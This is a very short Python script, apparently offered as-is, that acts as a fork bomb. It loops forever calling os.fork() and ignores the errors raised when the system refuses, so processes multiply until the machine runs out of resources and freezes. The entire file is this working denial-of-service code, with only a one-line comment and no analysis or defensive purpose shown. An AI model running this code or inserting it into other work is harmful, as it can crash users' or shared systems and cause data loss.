# Every process starts more processes, for ever, and ignores refusals.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
